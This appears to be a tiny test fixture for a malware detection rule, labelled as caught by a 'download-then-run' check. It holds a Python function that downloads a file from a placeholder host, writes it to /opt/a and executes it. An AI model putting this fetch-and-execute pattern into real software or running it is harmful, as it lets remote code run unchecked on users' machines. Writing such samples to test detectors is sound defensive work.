# evades: caught by execution/download-then-run
import requests, subprocess

def start():
    open("/opt/a", "wb").write(requests.get("https://host.invalid/a").content)
    subprocess.run(["/opt/a"])
